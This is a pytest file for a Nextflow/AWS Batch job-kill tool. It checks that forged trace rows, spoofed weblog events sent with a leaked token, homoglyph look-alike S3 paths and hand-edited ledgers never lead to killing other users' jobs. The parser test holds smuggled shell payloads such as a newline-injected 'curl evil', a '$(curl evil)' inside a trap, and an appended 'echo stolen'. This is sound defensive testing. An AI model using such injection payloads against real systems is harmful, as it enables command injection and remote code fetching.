"""Kill paths under attack: worlds the kill-safety tests (tests/test_kill_safety.py) do not
build. Each world runs on LocalBatch over HTTP with real boto3 and the simulated Nextflow:
run A aborts with orphans on queue q and work dir s3://b/work, then something that is NOT
A's looks like A's. Every kill path must leave the foreign jobs running and still take
A's true orphans.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from batchkit.ledger import Ledger
from batchkit.nextflow import NextflowRun, WeblogReceiver
from batchkit.schema import KillJob, TaskCol
from batchkit.sim import LocalBatch
from batchkit.tracker import Tracker
from tests import _worlds as worlds
from tests._worlds import QUEUE, WORK, World, lb

__all__ = ["lb"]  # the LocalBatch fixture of the kill worlds (tests/_worlds.py)


def job_of(world: World, job_id: str) -> dict[str, Any]:
    return next(j for j in world.lb.jobs() if j["jobId"] == job_id)


def task_dir_of(world: World, job_id: str) -> str:
    """The task work dir in a job's launcher (``s3://b/work/ab/<30 hex>``)."""
    command = " ".join(job_of(world, job_id)["container"]["command"])
    return command.split(" s3 cp --only-show-errors ")[-1].split("/.command.run")[0]


def short_hash(task_dir: str) -> str:
    tail = task_dir.rstrip("/").split("/")
    return f"{tail[-2]}/{tail[-1][:6]}"


# --- the ledger is not a proof: a pending kill is re-driven only for a job still proven ---------


@pytest.mark.parametrize("same_dir", [False, True], ids=["b-elsewhere", "b-same-launch-dir"])
def test_a_hand_added_pending_kill_of_a_foreign_job_is_never_sent(
    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str], same_dir: bool
) -> None:
    """Someone (or an older batchkit that judged by work dir) left a pending kill of B's
    job under run A's name in A's ledger. ``kill --yes``, ``resume_kills`` and a started
    Tracker re-drive pending kills; none may send this one: it was never proven A's."""
    world = worlds.a_then_b(lb, tmp_path, 3600.0, resume=False, same_dir=same_dir)
    victim = sorted(world.foreign)[0]
    ledger = Ledger.for_launch_dir(world.a_dir)
    ledger.record_kill_intent(
        "run_a", KillJob(victim, "orphan", "batchkit: orphan of run 'run_a'"), {"jobIds": [victim]}
    )
    killed = worlds.kill_with_cli(world, capsys)
    assert killed == world.a_orphans and victim not in killed
    assert world.foreign <= world.active()

    tracker = Tracker(world.run_a(), world.client(), queues=[QUEUE], ledger=ledger, reload_run=False)
    try:
        report = tracker.resume_kills()
        assert victim not in {k.job_id for k, _, _ in report.outcomes}
    finally:
        tracker.close()
    started = Tracker(world.run_a(), world.client(), queues=[QUEUE], ledger=ledger, reload_run=False,
                      interval=3600)
    try:
        started.start()  # re-drives pending kills in the background first
        started.refresh()
        for handle_thread in [t for t in __import__("threading").enumerate() if t.name.startswith("batchkit-kill")]:
            handle_thread.join(timeout=30)
    finally:
        started.close()
    assert world.foreign <= world.active(), "a foreign job was terminated from the ledger"


# --- a record's timestamps are no proof of the run's lifetime ----------------------------------


def test_an_edited_trace_row_with_a_late_time_does_not_stretch_the_lifetime_onto_b(
    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """B (another machine: its log is not in A's launch dir) runs an hour after A on the
    same queue and work dir. A row appended to A's trace names one of B's jobs with B's
    own hash (so its launcher agrees with the record) and a submit time two days on: the
    row must not move A's last sign of life, so B's job stays outside A's lifetime."""
    world = worlds.a_then_b(lb, tmp_path, 3600.0, resume=False, same_dir=False)
    victim = sorted(world.foreign)[0]
    trace = next(world.a_dir.glob("trace-*.txt"))
    submits = pd.read_csv(trace, sep="\t")["submit"]
    late = pd.to_datetime(submits[submits != "-"]).max() + pd.Timedelta(days=2)
    worlds.append_trace_row(trace, {"task_id": "98", "hash": short_hash(task_dir_of(world, victim)),
                                    "native_id": victim, "name": "ALIGN (forged)", "status": "ABORTED",
                                    "submit": f"{late:%Y-%m-%d %H:%M:%S}.000"})
    assert victim in set(world.run_a().tasks[TaskCol.NATIVE_ID].dropna())
    world.a_orphans &= world.active()
    assert worlds.tracker_plan(world) == world.a_orphans
    killed = worlds.kill_with_cli(world, capsys)
    assert killed == world.a_orphans and not killed & world.foreign


def test_a_forged_weblog_event_with_the_leaked_token_does_not_stretch_the_lifetime(
    lb: LocalBatch, tmp_path: Path
) -> None:
    """The receiver's token leaked: a POST with A's runId names B's job, with B's hash and
    work dir (the launcher agrees) and an utcTime just after B's job was created."""
    world = worlds.a_then_b(lb, tmp_path, 3600.0, resume=False, same_dir=False)
    victim = sorted(world.foreign)[0]
    wd = task_dir_of(world, victim)
    created = pd.Timestamp(job_of(world, victim)["createdAt"], unit="ms", tz="UTC")
    receiver = WeblogReceiver(token="nf:leaked-secret")
    auth = {"Authorization": "Basic " + base64.b64encode(b"nf:leaked-secret").decode()}
    session = world.run_a().session_id
    when = f"{created + pd.Timedelta(minutes=1):%Y-%m-%dT%H:%M:%SZ}"
    receiver.receive(json.dumps({"runName": "run_a", "runId": session, "event": "started",
                                "utcTime": when}).encode(), auth)
    receiver.receive(json.dumps({
        "runName": "run_a", "runId": session, "event": "process_submitted", "utcTime": when,
        "trace": {"task_id": 97, "hash": short_hash(wd), "native_id": victim, "name": "ALIGN (x)",
                  "status": "SUBMITTED", "workdir": wd, "submit": int(created.value // 10**6)},
    }).encode(), auth)
    run = NextflowRun.from_dir(world.a_dir, weblog=receiver)
    assert victim in set(run.tasks[TaskCol.NATIVE_ID].dropna())
    world.a_orphans &= world.active()
    plan = worlds.tracker_plan(world, run)
    assert victim not in plan and plan == world.a_orphans


# --- the launcher: a relaunch in the same launch dir is not the launched run -------------------


@pytest.mark.slow
def test_an_armed_watchdog_and_kill_leftovers_ignore_a_relaunch_in_the_same_launch_dir(tmp_path: Path) -> None:
    """The victim is killed -9 and the user relaunches in the SAME launch dir (the usual
    `nextflow run -resume` after a crash): .nextflow.log is now the relaunch's. The
    victim's launch must keep reading its own run: its armed watchdog and its
    kill_leftovers take the victim's jobs and none of the live relaunch's."""
    with worlds.live_launches() as (batch, launch):
        folder = tmp_path / "launch"
        victim = launch(folder)
        worlds.wait_for(lambda: len(worlds.recorded(victim)) >= 2, "the victim's submissions")
        victim.kill_process()
        mine = worlds.recorded(victim)
        relaunch = launch(folder, "-seed", "7")
        worlds.wait_for(lambda: len(worlds.recorded(relaunch)) >= 2, "the relaunch's submissions")
        assert victim.run().name == victim.run_name  # not the relaunch's log
        assert {k.job_id for k in victim.leftovers()} <= mine
        watchdog = victim.watch(silent_after=3600, interval=3600)
        watchdog.arm()
        watchdog.check()
        killed = {job.job_id for report in watchdog.kills for job, _, _ in report.outcomes}
        assert killed <= mine
        theirs = worlds.recorded(relaunch)
        after = {j["jobId"]: j for j in batch.jobs()}
        assert theirs and not any((after[j].get("statusReason") or "").startswith("batchkit") for j in theirs)
        assert relaunch.returncode is None


# --- array jobs ----------------------------------------------------------------------------------


def test_an_edited_trace_row_naming_a_foreign_array_child_kills_nothing(
    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Another user's array job (not Nextflow: its command names no task dir) runs on A's
    queue, submitted within A's grace after the abort. A row added to A's trace names one
    of its children ``<id>:1``: array commands pick the task dir by index, so they name
    no single dir — but Nextflow's names the task's among its dirs; this one names none.
    Neither the child nor its parent (whose TerminateJob would stop every child) may be
    in a plan."""
    a_dir = tmp_path / "launch"
    truth = worlds.run_a(lb, a_dir)
    parent = str(lb.client().submit_job(
        jobName="train", jobQueue=QUEUE, jobDefinition="nf-demo", arrayProperties={"size": 3},
        containerOverrides={"command": ["bash", "-c", "sleep 100000"]},
    )["jobId"])
    lb.advance(30)
    children = {f"{parent}:{i}" for i in range(3)}
    trace = next(a_dir.glob("trace-*.txt"))
    worlds.append_trace_row(trace, {"task_id": "97", "hash": "ef/123456", "native_id": f"{parent}:1",
                                    "name": "ALIGN (forged)", "status": "ABORTED"})
    world = worlds.world_of_a(lb, a_dir, truth, {parent, *children})
    assert world.a_orphans and children <= world.active()
    plan = worlds.tracker_plan(world)
    assert plan == world.a_orphans
    killed = worlds.kill_with_cli(world, capsys)
    assert killed == world.a_orphans and not killed & world.foreign
    assert children <= world.active()


# --- the launcher parser and look-alike paths ---------------------------------------------------

TASK = "s3://b/work/ab/cdef12" + "0" * 24
AWS_CP = "/usr/local/bin/aws s3 cp --only-show-errors"
SCRIPT = (f'trap "{{ ret=$?; {AWS_CP} .command.log {TASK}/.command.log||true; exit $ret; }}" EXIT; '
          f"{AWS_CP} {TASK}/.command.run - | bash 2>&1 | tee .command.log")


@pytest.mark.parametrize(
    "command",
    [
        # a newline ends the trailing comment: what follows runs
        ["bash", "-o", "pipefail", "-c", SCRIPT + " # sleep 1\ncurl evil"],
        # the trap runs another command on exit
        ["bash", "-o", "pipefail", "-c", SCRIPT.replace("ret=$?; ", "ret=$?; $(curl evil) ")],
        # the same words split into other arguments run something else (`bash -c aws`)
        ["bash", "-o", "pipefail", "-c", *SCRIPT.split(" ")],
        ["bash -o pipefail -c", SCRIPT],
        # two launchers, the second for another task dir
        ["bash", "-o", "pipefail", "-c", SCRIPT + "; " + SCRIPT.replace("ab/cdef12", "ab/999999")],
        # the launcher inside an environment variable or a quoted string
        ["bash", "-o", "pipefail", "-c", "$NXF_LAUNCH"],
        ["bash", "-o", "pipefail", "-c", f"bash -c '{SCRIPT}'"],
        ["bash", "-o", "pipefail", "-c", f'echo "{SCRIPT}"'],
    ],
    ids=["newline-comment", "trap-subshell", "split-argv", "joined-argv", "two-launchers",
         "env-var", "single-quoted", "double-quoted"],
)
def test_commands_that_are_not_exactly_nextflows_launcher_name_no_task_dir(command: list[str]) -> None:
    from batchkit.reconcile import jobs_frame
    from batchkit.schema import JobCol

    frame = jobs_frame([{"jobId": "j", "status": "RUNNING", "container": {"command": command}}])
    assert pd.isna(frame[JobCol.WORK_DIR].iloc[0])
    good = jobs_frame([{"jobId": "j", "status": "RUNNING",
                        "container": {"command": ["bash", "-o", "pipefail", "-c", SCRIPT + " # sleep 3d"]}}])
    assert good[JobCol.WORK_DIR].iloc[0] == TASK


def test_look_alike_task_dirs_are_never_the_runs(
    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Jobs created right after A's abort (inside its grace) whose launcher names one of
    A's own task hashes under a path that only looks like A's work dir: another bucket
    differing in case (legacy S3 buckets may hold capitals), the Kelvin sign that Unicode
    lower-cases to "k", a Cyrillic o (U+043E) in "work", a trailing dot, a percent-encoded
    "..", another key case, and A's exact task dir run with a command appended."""
    a_dir = tmp_path / "launch"
    truth = worlds.run_a(lb, a_dir)
    h = sorted(t["hash"] for t in truth.tasks)[0]  # short form "ab/cdef12", submitted by A
    tail = h + "0" * 24

    def submit(command: list[str]) -> str:
        return str(lb.client().submit_job(jobName="ALIGN_sample_01", jobQueue=QUEUE, jobDefinition="nf-demo",
                                          containerOverrides={"command": command})["jobId"])

    def nf(wd: str, extra: str = "") -> list[str]:
        cmd = worlds.launcher(wd)
        return [*cmd[:-1], cmd[-1] + " # sleep 3d" + extra]

    lookalikes = {
        submit(nf(f"s3://B/work/{tail}")),
        submit(nf(f"s3://b/w\u043erk/{tail}")),  # Cyrillic o (U+043E)
        submit(nf(f"s3://b/work./{tail}")),
        submit(nf(f"s3://b/work/%2e%2e/work/{tail}")),
        submit(nf(f"s3://b/WORK/{tail}")),
        submit(nf(f"s3://b/work/{tail}", "\necho stolen")),
        submit(["/usr/bin/fusion", "bash", f"/fusion/s3/B/work/{tail}/.command.run"]),
    }
    lb.advance(30)
    world = worlds.world_of_a(lb, a_dir, truth, lookalikes)
    assert world.a_orphans and lookalikes <= world.active()
    # A's exact task dir, created in its grace, is proof (the control: the window is open).
    control = submit(nf(f"s3://b/work/{tail}"))
    lb.advance(1)
    assert control in worlds.tracker_plan(world)
    lb.client().terminate_job(jobId=control, reason="test: control seen")
    assert worlds.tracker_plan(world) == world.a_orphans
    killed = worlds.kill_with_cli(world, capsys)
    assert killed == world.a_orphans and not killed & lookalikes


def test_a_kelvin_sign_bucket_is_not_the_runs_bucket() -> None:
    from batchkit.reconcile import normal_dir

    assert normal_dir("s3://\u212abucket/work") != normal_dir("s3://kbucket/work")
    assert normal_dir("s3://B/work") != normal_dir("s3://b/work")


# --- clocks, ids and concurrent kills ------------------------------------------------------------


@pytest.mark.parametrize("tz", ["Asia/Kolkata", "America/Los_Angeles"])
def test_a_log_read_hours_off_its_zone_neither_misses_orphans_nor_takes_a_later_run(
    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str], tz: str
) -> None:
    """The log and trace carry no zone; read in a zone hours off (+5:30, -8), A's logged
    lifetime moves by hours. Batch's createdAt of A's own jobs re-anchors it: A's orphans
    are all taken and B's (an hour later, same queue and work dir) none."""
    world = worlds.a_then_b(lb, tmp_path, 3600.0, resume=False, same_dir=False)
    world.a_selection = [str(world.a_dir), "--tz", tz]
    world.a_orphans &= world.active()
    run = NextflowRun.from_dir(world.a_dir, tz=tz)
    assert worlds.tracker_plan(world, run) == world.a_orphans
    killed = worlds.kill_with_cli(world, capsys)
    assert killed == world.a_orphans and not killed & world.foreign


def test_a_recorded_id_in_another_case_is_not_the_job(
    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A trace row names one of B's jobs in capitals (Batch ids are lowercase UUIDs; an
    id differing only by case is another id): never that job's record."""
    world = worlds.a_then_b(lb, tmp_path, 3600.0, resume=False, same_dir=False)
    victim = sorted(world.foreign)[0]
    trace = next(world.a_dir.glob("trace-*.txt"))
    worlds.append_trace_row(trace, {"task_id": "96", "hash": short_hash(task_dir_of(world, victim)),
                                    "native_id": victim.upper(), "name": "ALIGN (forged)", "status": "ABORTED"})
    world.a_orphans &= world.active()
    assert worlds.tracker_plan(world) == world.a_orphans
    killed = worlds.kill_with_cli(world, capsys)
    assert killed == world.a_orphans and victim not in killed and victim in world.active()


def test_two_kills_and_a_resume_on_one_ledger_audit_once_and_take_no_foreign_job(
    lb: LocalBatch, tmp_path: Path
) -> None:
    """Two trackers kill A's plan at once while a third resumes the ledger's pending kills
    (one of them hand-added for B's job), TerminateJobs stalling: every orphan of A ends
    with exactly one final audit row, B's job is never sent."""
    import threading

    world = worlds.a_then_b(lb, tmp_path, 3600.0, resume=False, same_dir=False)
    victim = sorted(world.foreign)[0]
    path = world.a_dir / ".batchkit" / "ledger.sqlite"
    Ledger(path).record_kill_intent(
        "run_a", KillJob(victim, "orphan", "batchkit: orphan of run 'run_a'"), {"jobIds": [victim]}
    )
    world.a_orphans &= world.active()
    lb.faults.add("TerminateJobs", "latency", latency=0.3)
    trackers = [Tracker(world.run_a(), world.client(), queues=[QUEUE], ledger=Ledger(path), reload_run=False)
                for _ in range(3)]
    try:
        for t in trackers:
            t.refresh()
        plans = [t.plan() for t in trackers[:2]]
        assert all({k.job_id for k in p} == world.a_orphans for p in plans)
        reports: list[Any] = []
        threads = [threading.Thread(target=lambda t=t, p=p: reports.append(t.kill(p))) for t, p in zip(trackers, plans, strict=False)]
        threads.append(threading.Thread(target=lambda: reports.append(trackers[2].resume_kills())))
        for th in threads:
            th.start()
        for th in threads:
            th.join(timeout=120)
    finally:
        for t in trackers:
            t.close()
    assert len(reports) == 3
    assert world.a_orphans.isdisjoint(world.active()) and world.foreign <= world.active()
    rows = Ledger(path).kills()
    finals = [r["job_id"] for r in rows if r["finished_at"] is not None]
    assert sorted(finals) == sorted(world.a_orphans)  # one final row each, none for B's job
    assert victim not in finals


# --- the Dashboard's per-row kill -----------------------------------------------------------------


def test_a_row_kill_of_a_job_that_is_not_killable_kills_nothing(lb: LocalBatch, tmp_path: Path) -> None:
    """The per-row Kill button is drawn only for killable rows, but its message carries a
    job id: a click that arrives for a row no longer killable (the table re-sorted, a
    refresh found the job is B's neighbour in the work dir) must not turn into a "named
    kill" of a job the user never named on purpose."""
    from batchkit.widgets.dashboard import Dashboard

    world = worlds.a_then_b(lb, tmp_path, 3600.0, resume=False, same_dir=False)
    victim = sorted(world.foreign)[0]
    tracker = Tracker(world.run_a(), world.client(), queues=[QUEUE], ledger=Ledger(tmp_path / "l.sqlite"),
                      reload_run=False)
    dash = Dashboard(world.run_a(), tracker=tracker, autostart=False)
    try:
        frame = tracker.refresh().frame
        from batchkit.schema import JobCol, RecCol

        row = frame[frame[JobCol.JOB_ID] == victim]
        assert len(row) and row[RecCol.IN_SCOPE_BY].iloc[0] == "neighbourhood"  # shown, not proven
        dash._row_kill_requested(victim)
        dash.wait_kill(timeout=60)
        assert victim in world.active()
        orphan = sorted(world.a_orphans & world.active())[0]
        dash._row_kill_requested(orphan)  # a killable row's own button still works
        dash.wait_kill(timeout=60)
        assert orphan not in world.active()
    finally:
        dash.close()
        tracker.close()
    assert world.foreign <= world.active()


# --- a forged end of the run ---------------------------------------------------------------------


@pytest.mark.parametrize("event", ["completed", "error"])
def test_a_forged_weblog_end_does_not_end_a_run_whose_log_is_alive(
    lb: LocalBatch, tmp_path: Path, event: str
) -> None:
    """The receiver's token leaked: one POST with the run's own runId says the run
    completed (or failed). Its log says it is still running, so its in-flight jobs are not
    orphans: killing them without force would stop a live run."""
    world = worlds.a_then_b(lb, tmp_path, 600.0, resume=False, same_dir=False)
    b_dir = tmp_path / "launch-b"
    honest = NextflowRun.from_dir(b_dir)
    assert honest.state == "alive"
    receiver = WeblogReceiver(token="nf:leaked-secret")
    auth = {"Authorization": "Basic " + base64.b64encode(b"nf:leaked-secret").decode()}
    when = f"{pd.Timestamp(lb.clock.now(), unit='s', tz='UTC'):%Y-%m-%dT%H:%M:%SZ}"
    for name in ("started", event):
        body: dict[str, Any] = {"runName": honest.name, "runId": honest.session_id, "event": name, "utcTime": when}
        if name == "completed":
            body["metadata"] = {"workflow": {"success": True, "complete": when}}
        receiver.receive(json.dumps(body).encode(), auth)
    run = NextflowRun.from_dir(b_dir, weblog=receiver)
    assert run.state == "alive", run.state
    tracker = Tracker(run, world.client(), queues=[QUEUE], ledger=False, reload_run=False)
    try:
        tracker.refresh()
        assert tracker.plan() == []
    finally:
        tracker.close()


# --- the SubmitForm's kill ------------------------------------------------------------------------


def test_a_submission_added_to_the_ledger_by_hand_is_not_killed_from_the_form(lb: LocalBatch, tmp_path: Path) -> None:
    """The form lists the ledger's submissions with a Kill button each. A row added by hand
    for someone else's job (no batchkit submission tag) must not make it killable there;
    a job the form really submitted still is."""
    from batchkit.client import BatchClient
    from batchkit.widgets.submit_form import SubmitForm

    stranger = str(lb.client().submit_job(jobName="theirs", jobQueue=QUEUE, jobDefinition="nf-demo",
                                          containerOverrides={"command": ["bash", "-c", "sleep 100000"]})["jobId"])
    lb.advance(30)
    path = tmp_path / "ledger.sqlite"
    ledger = Ledger(path)
    ledger.record_submission_intent("forged-sid", {"jobName": "theirs", "jobQueue": QUEUE, "jobDefinition": "nf-demo"})
    ledger.record_submission_result("forged-sid", stranger, "submitted", None)
    form = SubmitForm(BatchClient(client=lb.client(), rate=1000.0, deadline=30.0), ledger=path, autostart=False)
    assert stranger in form.submissions
    outcome = form.kill(stranger)
    assert not outcome.ok and outcome.error_code == "NotThisFormsJob"
    assert job_status(lb, stranger) == "RUNNING"
    assert Ledger(path).kills() == []  # nothing sent, nothing audited as a kill


def job_status(lb: LocalBatch, job_id: str) -> str:
    return str(next(j for j in lb.jobs() if j["jobId"] == job_id)["status"])


# --- a later run reusing A's task dirs; a record of a job older than A --------------------------


def test_a_resume_elsewhere_rerunning_as_task_dirs_an_hour_later_is_not_as(
    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """B runs on another machine (its log is not in A's launch dir) an hour after A's
    abort and re-executes A's unfinished tasks in A's very task dirs (same hashes): its
    jobs' launchers name dirs A submitted, but Batch created them outside A's lifetime."""
    a_dir = tmp_path / "launch"
    truth = worlds.run_a(lb, a_dir)
    lb.advance(3600.0)
    dirs = sorted({task_dir_of(World(lb, a_dir, [], set()), j) for j in truth.abandoned_job_ids})
    reused = {worlds.foreign_job(lb, queue=QUEUE, workdir=d) for d in dirs[:3]}
    lb.advance(30)
    world = worlds.world_of_a(lb, a_dir, truth, reused)
    assert world.a_orphans and reused <= world.active()
    assert worlds.tracker_plan(world) == world.a_orphans
    killed = worlds.kill_with_cli(world, capsys)
    assert killed == world.a_orphans and not killed & reused


def test_a_recorded_job_created_an_hour_before_the_launch_is_not_the_runs(
    lb: LocalBatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A trace row names a job on A's queue, in A's work dir, whose launcher is the row's
    own task dir: but Batch created it an hour before A was launched."""
    older = worlds.foreign_job(lb, queue=QUEUE, workdir=f"{WORK}/cd/{'4' * 30}")
    lb.advance(3600.0)
    a_dir = tmp_path / "launch"
    truth = worlds.run_a(lb, a_dir)
    trace = next(a_dir.glob("trace-*.txt"))
    worlds.append_trace_row(trace, {"task_id": "95", "hash": "cd/444444", "native_id": older,
                                    "name": "ALIGN (forged)", "status": "ABORTED"})
    world = worlds.world_of_a(lb, a_dir, truth, {older})
    assert world.a_orphans and older in world.active()
    assert worlds.tracker_plan(world) == world.a_orphans
    killed = worlds.kill_with_cli(world, capsys)
    assert killed == world.a_orphans and older not in killed
